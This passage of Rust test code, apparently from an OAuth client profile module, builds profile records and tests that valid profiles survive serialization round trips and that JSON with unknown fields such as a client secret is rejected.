                ProfileRecord {
                    name: client.0,
                    issuer: matches!(shape, 0 | 2).then_some(issuer),
                    authorization_endpoint: (shape != 0).then_some(auth),
                    token_endpoint: matches!(shape, 1 | 2).then_some(token),
                    revocation_endpoint: revocation.filter(|_| shape != 0),
                    userinfo_endpoint: userinfo.filter(|_| shape != 0),
                    client_id: client.1,
                    client_secret_in_keychain: client.2,
                    client_auth: client.3,
                    scopes: request.0,
                    params: request.1,
                    redirect_uri: request.2,
                    browser: request.3,
                    device_authorization_endpoint: sign_in.0.filter(|_| shape != 0),
                    flow: sign_in.1,
                    ca_file: sign_in.2,
                    expect_sub: sign_in.3,
                    expect_email: sign_in.4,
                    browser_logout: sign_in.5,
                }
            },
        )
    }

    proptest::proptest! {
        #![proptest_config(proptest::test_runner::Config::with_cases(1024))]

        /// Whatever validates is written back (`to_record`) as something that validates again
        /// into the same profile: the profile file and exports never change a profile.
        #[test]
        fn a_valid_record_survives_to_record(record in any_record()) {
            if let Ok(profile) = Profile::try_from(record) {
                let again = Profile::try_from(profile.to_record());
                proptest::prop_assert_eq!(again.ok(), Some(profile));
            }
        }
    }

    #[test]
    fn unknown_fields_are_refused() {
        let json =
            r#"{"name":"x","issuer":"https://a.example","client_id":"c","client_secret":"s"}"#;
        assert!(serde_json::from_str::<ProfileRecord>(json).is_err());
    }
}
